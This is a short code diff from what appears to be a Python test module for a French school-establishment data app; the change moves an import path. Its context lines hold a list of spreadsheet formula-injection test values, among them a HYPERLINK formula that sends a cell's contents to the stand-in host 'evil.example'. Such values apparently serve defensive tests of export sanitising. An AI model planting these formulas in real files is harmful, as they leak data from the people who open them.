@@ -10,7 +10,7 @@ import io
 import random
 from typing import Callable
 
-from app.uai import make_uai
+from app.services.territory.uai import make_uai
 
 HEADER = "Identifiant_de_l_etablissement;Nom_etablissement;Type_etablissement;Nom_commune"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "+33 avenue Giono", "-2+3", "@SUM(A1:A9)"]
